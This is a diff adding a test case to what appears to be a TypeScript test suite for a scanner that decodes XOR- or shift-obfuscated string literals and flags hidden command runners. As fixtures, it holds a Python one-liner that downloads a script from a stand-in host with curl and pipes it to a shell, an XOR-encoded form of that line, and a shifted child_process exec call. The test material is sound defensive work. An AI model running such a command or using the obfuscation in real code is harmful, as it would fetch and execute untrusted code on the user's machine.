@@ -84,6 +84,24 @@ describe('character codes shifted by a constant the file applies', () => {
     // the same list without the shift in the file is not text
     expect(texts(`D = ${list((c) => c + 7)}\nS = bytes(D)\n`)).toEqual([]);
   });
+  it('decodes a quoted literal with a shift of characters read in the same call, when it then names a runner or an address', () => {
+    const code = "__import__('os').system('curl -s http://x.example/a.sh | sh')";
+    const xored = (k: number): string => [...code].map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join('');
+    // the XOR'd literal is printable and has words and brackets: readable as written, so only the shift tells
+    const lit = xored(7).replace(/\\/g, '\\\\').replace(/'/g, "\\'");
+    expect(texts(`_ = lambda s: ''.join(map(lambda c: chr(ord(c) ^ 7), s))\nX = _('${lit}')\n`)).toEqual([code]);
+    const shiftedUp = [...'require("child_process").exec(cmd)'].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
+    expect(texts(`const d = (s) => s.split('').map((c, i) => String.fromCharCode(s.charCodeAt(i) - 1)).join(''); d("${shiftedUp.replace(/"/g, '\\"')}");`)).toEqual(['require("child_process").exec(cmd)']);
+    // ordinary strings in a file with such a cipher: nothing that names a runner or an address after the shift
+    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nMSG = 'the configuration file could not be read'\n`)).toEqual([]);
+    // a literal that already names a runner as written is not read a second time
+    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nMSG = 'subprocess exec failed: see the log'\n`)).toEqual([]);
+    // without the shift in the file the XOR'd literal is left as written
+    expect(texts(`X = '${lit}'\n`)).toEqual([]);
+    // a megabyte of escaped quotes, or of unclosed ones, is read in one pass
+    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n'${"\\'".repeat(400_000)}`)).toEqual([]);
+    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n${`'${'a'.repeat(20)}`.repeat(50_000)}`)).toEqual([]);
+  });
   it('pickles kept as base64 are read for the names their opcodes carry', async () => {
     const { pickleText } = await import('./decoded.js');
     // protocol 0: GLOBAL posix system, then the command as a unicode string
